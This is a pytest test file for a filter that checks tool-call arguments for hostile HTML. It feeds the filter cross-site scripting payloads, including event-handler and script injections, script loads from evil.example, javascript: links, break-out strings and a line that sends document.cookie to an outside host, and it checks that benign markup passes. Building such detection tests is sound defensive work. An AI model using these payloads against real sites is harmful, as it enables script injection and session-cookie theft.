"""Markup in requests: what is stopped, and the honest markup that looks like it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from vanguard.layers.markup.layer import judge
from vanguard.layers.markup.scan import SHORT
from vanguard.layers.normalize import read
from vanguard.model.context import Context, Policy
from vanguard.model.finding import Finding, Severity
from vanguard.model.message import Direction, Message
from vanguard.policy.load import profile
from vanguard.rules.index import Index
from vanguard.wire.jsonrpc import parse

CONTEXT = Context(Policy(profile("balanced"), Index((), ""), ""))

PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="UTF-8"><base href="/"><script src="https://x.example/app.js"></script></head>
<body onload="init()">
<button onclick="alert('Hello!')">Hi</button>
<script>document.cookie = "seen=1"; document.body.innerHTML = draw();</script>
</body></html>
"""


def message(arguments: dict[str, Any], direction: Direction = Direction.TO_SERVER) -> Message:
    """A call of a tool with these arguments."""
    body = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "t", "arguments": arguments},
    }
    parsed = parse(json.dumps(body).encode(), direction)
    assert isinstance(parsed, Message)
    return parsed


def findings(text: str, **beside: Any) -> list[Finding]:
    """What the layer finds in a value, with these arguments beside it."""
    reading = read(message({**beside, "text": text}), CONTEXT.policy.profile.limits)
    return list(judge(reading, CONTEXT).findings)


def rules(text: str, **beside: Any) -> set[str]:
    """The rules that a value breaks."""
    return {finding.rule for finding in findings(text, **beside)}


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        '<img src="x" onerror="go()">',
        "<svg/onload=alert(1)>",
        '<svg><animate onbegin="alert(1)" attributeName=x dur=1s>',
        "<details open ontoggle=go()>",
        "<input autofocus onfocus=print()>",
        "<body onpageshow=print()>",
        "<x onclick=alert(1)>x</x>",
        '<p onbeforecopy="alert(1)" contenteditable>x</p>',
        '<video><source onerror="location=/\\x2f2.rs/+document.cookie">',
        '<D3"<"/OncLick="1>[confirm``]"<">z',
        "<x onxxx=1",
        "<div style='animation-name:x' onanimationstart='go()'>",
        "Nice post! <img src=x onerror=alert(1)>",
    ],
)
def test_elements_that_run_script_by_themselves_are_found(text: str) -> None:
    assert rules(text) == {"web-event-handler"}


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<script>go()</script>",
        "<ScRiPt>go()</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        '<SCRIPT a=">" \'\' SRC="http://evil.example/x.js"></SCRIPT>',
        '<script src="https://ajax.googleapis.com/x?callback=alert(1)"></script>',
        "<svg><script>alert&#40;1&#41;</script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml' src='data:,go()'/>",
        "<script>alert(document.domain)",
        "<scr<script>ipt>alert(1)</script>",
        "hello <script>alert(1)</script> world",
    ],
)
def test_scripts_of_their_own_are_found(text: str) -> None:
    assert rules(text) & {"web-script-element", "web-script-link"}


@pytest.mark.parametrize(
    "text",
    [
        "<a href=\"javascript:fetch('//x')\">x</a>",
        '<a href="java\nscript:go()">x</a>',
        "<a href=javas&#99;ript:alert(1)>x</a>",
        '<iframe src="j&Tab;a&NewLine;vascript:x">',
        '<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>',
        '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
        '<form><button formaction="javascript:go()">x</button></form>',
        '<svg><set attributeName="onmouseover" to="go()"/>',
        '<meta http-equiv="refresh" content="0;url=javascript:go()">',
        '<math><x href="javascript:go()">x',
        '<br size="&{go()}">',
    ],
)
def test_links_to_script_are_found(text: str) -> None:
    assert rules(text) & {"web-script-link", "web-event-handler"}


@pytest.mark.parametrize(
    "text",
    [
        '<div style="width: expression(go())">',
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>li {background: url('javascript:go()')}</style>",
        '<style type="text/javascript">go()</style>',
    ],
)
def test_styles_that_run_or_fetch_are_found(text: str) -> None:
    assert rules(text) == {"web-script-style"}


@pytest.mark.parametrize(
    "text",
    [
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<embed src="http://evil.example/x.swf">',
        "<applet code=x.class>",
        "<img src='//evil.example/?",
        "<f o r m action=x>",
        '<esi:include src="x"/>',
        '<a xmlns:xsi="x" xsi:schemaLocation="http://a.b/ http://c.evil.example/x.xsd">x</a>',
        "<xss>",
    ],
)
def test_elements_that_load_or_redirect_are_found(text: str) -> None:
    assert rules(text) == {"web-active-element"}


@pytest.mark.parametrize(
    "text",
    [
        '"><img src=x>',
        "'></a><iframe src=x>",
        "--><svg width=1>",
        "</textarea><img src=x>",
        "\"'`--><b>",
    ],
)
def test_values_that_close_what_they_stand_in_are_found(text: str) -> None:
    assert rules(text) == {"web-break-out"}


def test_markup_in_the_value_of_an_attribute_is_read_too() -> None:
    assert rules('<noscript><p title="</noscript><img src=x onerror=alert(1)>">') == {"web-event-handler"}
    assert rules('<a title="&lt;embed src=x.swf&gt;">x</a>') == {"web-active-element"}


@pytest.mark.parametrize(
    "text",
    [
        "<b>hi</b>",
        '<a href="https://example.com/?a=1&b=2">our site</a>',
        'Hello <strong>Anna</strong>,<br><br>your <a href="https://example.com/i/4">invoice</a>.',
        '<button onclick="save()">Save</button>',
        '<a href="/delete/5" onclick="return confirm(\'Are you sure?\')">Delete</a>',
        "<button onclick=\"window.location.href='/next'\">Next</button>",
        '<img src="a.png" onerror="this.src=\'b.png\'">',
        '<a href="javascript:void(0)">Menu</a>',
        '<script src="app.js" defer></script>',
        '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
        '<script type="application/ld+json">{"@type": "Person"}</script>',
        '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
        '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">',
        '<embed src="https://example.com/report.pdf" type="application/pdf">',
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
        '<meta charset="UTF-8">',
        "<button onClick={() => alert(count)}>Count</button>",
        '<asp:Button OnClick="b_Click" runat="server" />',
        '<input v-model="name" @keyup.enter="submit">',
        "<%= form_with model: @user do |form| %>",
        "Use <script setup> in Vue files and <style scoped> for styles",
        "How do I add an onclick handler to <a> tags?",
        "if a < b and c > d then onload = true",
        "std::map<std::string, std::vector<int>> m;",
        "John Smith <john@example.com> wrote",
        '<Customer id="1" online="true" once="no"/>',
        '<?xml version="1.0"?><note><to>Tove</to></note>',
        "<script>var data = {{ data|tojson }};</script>",
        '<select onchange="location = this.value;"><option>de</option></select>',
        '<link rel="icon" href="data:image/svg+xml,<svg xmlns=%22x%22><text>x</text></svg>">',
        "<bpmn:scriptTask><bpmn:script>x = 1</bpmn:script></bpmn:scriptTask>",
        "sed -i 's#<script>#<script defer>#' index.html",
        'new Map<"a" | "b", { n: bigint }>();',
        "for (let i = 0; i < list.length; i++) { if (list[i] > 3) found = list[i]; }",
        '<base href="/app/">',
        "  border='0' height='32' alt='Previous Page' width='32' /></a></td>\n<td class='x'><img src=y></td>",
        'ul.no-bullet {list-style: none}\n-->\n</style>\n\n</head>\n\n<body lang="en">',
    ],
)
def test_honest_markup_passes(text: str) -> None:
    assert rules(text) == set()


def test_a_page_may_have_scripts_and_handlers_of_its_own() -> None:
    assert rules(PAGE) == set()


def test_a_program_may_hold_markup_in_its_texts() -> None:
    program = "'use strict'\n" + "const page = '<img src=x onload=go()><script>go()</script>';\n" * 4
    assert rules(program) == set()


def test_a_command_may_name_markup() -> None:
    assert rules("x", command="grep -rn '<script>go()</script>' .") == set()


def test_a_page_may_not_have_what_only_a_probe_is() -> None:
    assert rules(PAGE.replace("init()", "alert(1)")) == {"web-event-handler"}


def test_what_prose_quotes_is_talk() -> None:
    assert rules("The filter does not strip `<img src=x onerror=alert(1)>` from the comments.") == set()
    assert rules("## How to reproduce\n\n```html\n<script>alert(1)</script>\n```\nand reload it") == set()


def test_what_prose_does_not_quote_is_only_noted() -> None:
    prose = (
        "To see it, open the settings of the shop, put <script>alert(1)</script> into the name and save it."
    )
    (finding,) = findings(prose)
    assert (finding.rule, finding.severity) == ("web-script-element", Severity.MEDIUM)


@pytest.mark.parametrize("path", ["src/index.html", "App.tsx", "templates/mail.j2", "C:\\x\\page.aspx"])
def test_a_file_of_source_may_hold_any_markup(path: str) -> None:
    assert rules("<img src=x onerror=alert(1)>", path=path) == set()


def test_a_file_of_source_may_be_named_above_or_beside_the_value() -> None:
    files = [{"path": "a/page.html", "body": "<svg onload=alert(1)>"}]
    reading = read(message({"files": files}), CONTEXT.policy.profile.limits)
    assert judge(reading, CONTEXT).findings == ()


@pytest.mark.parametrize("path", ["notes/draft.md", "a sentence that ends in page.html | x", "report.txt"])
def test_other_names_beside_a_value_change_nothing(path: str) -> None:
    assert rules("<img src=x onerror=alert(1)>", path=path) == {"web-event-handler"}


def test_long_values_are_left_to_the_rules() -> None:
    assert rules("x" * SHORT + "<script>alert(1)</script>") == set()


def test_a_short_value_with_more_tags_than_are_read_is_noted() -> None:
    assert rules("<b onclick=go>" * 100) == {"web-much-markup"}


def test_a_finding_shows_the_tag() -> None:
    (finding,) = findings("hello there <svg onload=alert(1)> x")
    assert "<svg onload=alert(1)>" in finding.excerpt
    assert finding.pointer == "/params/arguments/text"
